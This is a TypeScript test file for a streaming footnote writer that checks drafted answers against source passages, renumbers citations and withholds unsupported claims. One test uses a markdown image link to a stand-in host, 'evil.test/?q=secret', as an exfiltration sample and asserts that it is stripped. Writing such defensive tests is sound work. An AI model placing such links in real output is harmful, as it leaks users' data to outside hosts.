import { expect, test } from 'vitest'
import { makePassage } from './testing/make-passage'
import { createCitationRegister } from './cite-passages'
import { createFootnoteWriter } from './create-footnote-writer'
import { createClaimVerifier } from './verify-claims'

const passages = [
  makePassage('Unused days carry over until 31 March of the next year. Ask your manager before 1 December.', 'Leave'),
  makePassage(
    'The Pro plan costs €1,250 per year. It includes 10 seats. See https://example.com/plans for more.',
    'Prices',
  ),
]

function write(draft: string, size: number, strict = false, from = passages) {
  const register = createCitationRegister(from)
  const against = {
    verify: createClaimVerifier(from),
    register,
    passageTexts: from.map((passage) => passage.text),
  }
  const writer = createFootnoteWriter(against, strict)
  let shown = ''
  for (let at = 0; at < draft.length; at += size) shown += writer.push(draft.slice(at, at + size))
  shown += writer.flush()
  return { shown, text: writer.text, claims: writer.claims, withheld: writer.withheld, citations: register.citations }
}

const draft =
  'Unused days carry over until 31 March of the next year [2]. The Pro plan costs 1250 EUR per year. [2] It includes 99 seats [2].'

test('what streams is what is stored, whatever the size of the pieces', () => {
  const whole = write(draft, draft.length)
  expect(whole.text).toBe(
    'Unused days carry over until 31 March of the next year [1]. The Pro plan costs 1250 EUR per year [2]. It includes 99 seats.',
  )
  for (const size of [1, 2, 3, 7, 20]) {
    const run = write(draft, size)
    expect(run.text).toBe(whole.text)
    expect(run.shown).toBe(whole.text)
    expect(run.claims).toEqual(whole.claims)
  }
})

test('markers of the model are moved to the passage that says it, or dropped; every claim has offsets that hold', () => {
  const { text, claims, citations } = write(draft, 5)
  expect(claims.map((claim) => claim.verdict)).toEqual(['quote', 'supported', 'unsupported'])
  for (const claim of claims) expect(text.slice(claim.start, claim.end)).toBe(claim.text)
  expect(citations.map((citation) => citation.quote)).toEqual([
    'Unused days carry over until 31 March of the next year.',
    'The Pro plan costs €1,250 per year.',
  ])
})

test('headings, lists and lead-ins keep their shape, and only their assertions get footnotes', () => {
  const { text, claims } = write(
    '# Answer\n\nIn short:\n\n- The Pro plan costs €1,250 per year\n- It includes 10 seats\n',
    4,
  )
  expect(text).toBe('# Answer\n\nIn short:\n\n- The Pro plan costs €1,250 per year [1]\n- It includes 10 seats [2]')
  for (const claim of claims) expect(text.slice(claim.start, claim.end)).toBe(claim.text)
})

test('the items of a list keep their footnotes however it arrives, also those as long as a line', () => {
  const rules = [
    'Damage by drops from more than 1.5 m, by chlorine, solvents or steam is not covered',
    'Opened housings, except for changing the battery as described in the manual, are not covered',
    'Seals are not covered',
  ]
  const source = [makePassage(rules.map((rule) => `- ${rule}`).join('\n'), 'Warranty')]
  for (const [first, second] of [
    ['- ', '\n- '],
    ['1. ', '\n2. '],
    ['• ', '\n\n• '],
  ] as const) {
    const list = `${first}${rules[0]} [1]${second}${rules[1]} [1]${second}${rules[2]}`
    const whole = write(list, list.length, false, source)
    expect(whole.text).toBe(`${first}${rules[0]} [1]${second}${rules[1]} [2]${second}${rules[2]} [3]`)
    for (let size = 1; size < 20; size++)
      expect(write(list, size, false, source)).toEqual({ ...whole, shown: whole.text })
  }
})

test('images and unknown links never reach the reader, not even for a moment', () => {
  const evil =
    'The Pro plan costs €1,250 per year ![x](https://evil.test/?q=secret). Click [here](https://evil.test/a). See https://example.com/plans for more.'
  for (const size of [1, 3, 11, 500]) {
    const { shown, text } = write(evil, size)
    expect(shown).toBe(text)
    expect(text).not.toContain('evil.test')
    expect(text).toContain('https://example.com/plans')
  }
})

test('in strict mode what no passage carries is never shown, and is counted; offsets fit what is left', () => {
  const lies =
    'The Pro plan is free for ever [99]. Unused days carry over until 31 March of the next year [2]. It includes 99 seats [2]. The Pro plan costs 1250 EUR per year. [2]\n\nIt is made on the moon [1].'
  for (const size of [1, 3, 7, 500]) {
    const { shown, text, claims, withheld } = write(lies, size, true)
    expect(text).toBe(
      'Unused days carry over until 31 March of the next year [1]. The Pro plan costs 1250 EUR per year [2].',
    )
    expect(shown).toBe(text)
    expect(withheld).toBe(3)
    expect(claims.map((claim) => text.slice(claim.start, claim.end))).toEqual(claims.map((claim) => claim.text))
  }
})

test('in strict mode nothing may be left', () => {
  const { shown, text, claims, withheld } = write('The canteen serves 17 kinds of soup [1].', 4, true)
  expect({ shown, text, claims, withheld }).toEqual({ shown: '', text: '', claims: [], withheld: 1 })
})
